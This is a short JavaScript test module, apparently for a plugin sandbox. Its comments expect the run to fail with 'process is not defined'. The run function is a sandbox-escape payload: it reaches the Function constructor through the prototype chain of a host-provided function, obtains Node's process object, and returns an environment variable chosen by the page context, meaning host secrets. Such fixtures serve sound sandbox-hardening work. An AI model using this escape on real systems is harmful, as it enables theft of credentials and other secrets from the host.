// Reflect walks from a host function to the prototype of all of them, and to their constructor.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'function-prototype', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'function-prototype' } } } },
  run(context) {
    const prototype = Reflect.getPrototypeOf(Reflect.getPrototypeOf(cache.get));
    const take = prototype.constructor('return process')();
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
